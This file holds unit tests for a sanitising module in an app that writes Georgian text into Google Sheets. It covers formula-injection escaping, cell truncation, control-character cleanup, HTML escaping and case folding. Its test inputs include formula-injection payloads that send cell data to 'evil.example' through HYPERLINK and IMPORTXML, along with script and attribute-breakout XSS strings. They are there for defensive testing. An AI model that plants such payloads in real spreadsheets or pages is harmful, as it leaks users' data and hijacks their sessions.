import {
  CELL_LIMIT,
  TRUNCATION_MARKER,
  capCell,
  cleanText,
  escapeForSheet,
  escapeHtml,
  foldCase,
  matchKey,
  stripInvisible,
  unescapeFromSheet,
} from '../../src/domain/sanitize';

describe('escapeForSheet', () => {
  test.each([
    '=1+1',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=IMPORTXML("http://evil.example","//a")',
    '+995 555 12 34 56',
    '-2+3',
    '- რიგი ძალიან გრძელი იყო',
    '@SUM(A1:A2)',
    '\t=1+1',
    '\r=1+1',
    '\t',
    '\rplain',
    '  =1+1',
    '\u00A0=cmd',
    '\n=1',
    "'already quoted",
    "'=1",
  ])('escapes %j', (payload) => {
    const escaped = escapeForSheet(payload);
    expect(escaped).toBe(`'${payload}`);
    expect(unescapeFromSheet(escaped)).toBe(payload);
  });

  test.each(['რიგი დიდი იყო', 'a=b', 'ok - fine', 'email@example.ge', '5 ქულა', '', '1+1', 'x\n=1'])('leaves %j alone', (text) => {
    expect(escapeForSheet(text)).toBe(text);
    expect(unescapeFromSheet(text)).toBe(text);
  });

  test('unescape keeps an apostrophe that escaping would not have added', () => {
    expect(unescapeFromSheet("'plain")).toBe("'plain");
  });
});

describe('capCell', () => {
  test('short texts pass', () => {
    expect(capCell('გამარჯობა')).toEqual({ text: 'გამარჯობა', truncated: false });
  });

  test('a text that fits with the escaping apostrophe passes untouched', () => {
    const text = '='.padEnd(CELL_LIMIT - 1, 'x');
    expect(capCell(text)).toEqual({ text, truncated: false });
    expect(escapeForSheet(text)).toHaveLength(CELL_LIMIT);
  });

  test('longer texts are cut with a marker and still fit after escaping', () => {
    const text = '-'.padEnd(60000, 'ა');
    const capped = capCell(text);
    expect(capped.truncated).toBe(true);
    expect(capped.text.endsWith(TRUNCATION_MARKER)).toBe(true);
    expect(escapeForSheet(capped.text).length).toBeLessThanOrEqual(CELL_LIMIT);
    expect(capped.text.startsWith(text.slice(0, 1000))).toBe(true);
  });

  test('exactly at the limit is cut (no room left for the apostrophe)', () => {
    expect(capCell('x'.repeat(CELL_LIMIT)).truncated).toBe(true);
  });

  test('never splits a surrogate pair', () => {
    const keep = CELL_LIMIT - 1 - TRUNCATION_MARKER.length;
    const text = `${'a'.repeat(keep - 1)}😀${'b'.repeat(100)}`;
    const capped = capCell(text);
    expect(capped.text).toBe('a'.repeat(keep - 1) + TRUNCATION_MARKER);
    expect(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])/.test(capped.text)).toBe(false);
  });
});

describe('cleanText', () => {
  test('trims and normalises line ends', () => {
    expect(cleanText('  ერთი\r\nორი\rსამი\n  ')).toBe('ერთი\nორი\nსამი');
  });
  test('drops NUL and control characters but keeps tab and newline', () => {
    expect(cleanText('a\u0000b\u0007c\u001Bd\u007Fe\u0085f\tg\nh')).toBe('abcdef\tg\nh');
  });
  test('keeps Georgian and emoji', () => {
    expect(cleanText('მადლობა 🙏')).toBe('მადლობა 🙏');
  });
});

describe('escapeHtml', () => {
  test('escapes the five characters', () => {
    expect(escapeHtml(`<script>alert("x")</script> & 'y'`)).toBe('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &#39;y&#39;');
  });
  test('escapes an attribute breakout and leaves Georgian alone', () => {
    expect(escapeHtml('" onmouseover="alert(1)')).toBe('&quot; onmouseover=&quot;alert(1)');
    expect(escapeHtml('გმადლობთ')).toBe('გმადლობთ');
  });
  test('an entity in the text is text, so it is escaped again', () => {
    expect(escapeHtml('&amp;')).toBe('&amp;amp;');
  });
});

describe('matching helpers', () => {
  test('stripInvisible removes zero-width and bidi characters', () => {
    expect(stripInvisible('new\u200Bborn\uFEFF\u200D\u00AD\u202E')).toBe('newborn');
  });
  test('foldCase turns Mtavruli into Mkhedruli and Latin into lower case, keeping length', () => {
    const upper = 'რიგი'.toUpperCase();
    expect(upper).not.toBe('რიგი');
    expect(foldCase(upper)).toBe('რიგი');
    expect(foldCase('ᲐᲑᲒ NewBorn')).toBe('აბგ newborn');
    expect(foldCase('ᲰᲽᲾᲿ')).toBe('ჰჽჾჿ');
    expect(foldCase(upper)).toHaveLength(upper.length);
  });
  test('matchKey collapses spaces', () => {
    expect(matchKey('  ახალშობილთა \u00A0 ოჯახების\n')).toBe('ახალშობილთა ოჯახების');
  });
});

describe('text that Sheets would turn into a number, date or boolean', () => {
  test.each(['5', '1/2', '05.01.2026', '12%', '3,5', '10:30', 'TRUE', 'false', '01-2026-0001', '+995 599 12 34 56'])(
    '%s keeps an apostrophe so it stays the text written, and round-trips',
    (text) => {
      expect(escapeForSheet(text)).toBe(`'${text}`);
      expect(unescapeFromSheet(escapeForSheet(text))).toBe(text);
    },
  );
  test.each(['რიგი 5 წუთი', 'a5', '18–29', 'N1:1767589200000:0', 'გაგზავნილია', ''])('%s has letters (or nothing) and is left alone', (text) => {
    expect(escapeForSheet(text)).toBe(text);
  });
});
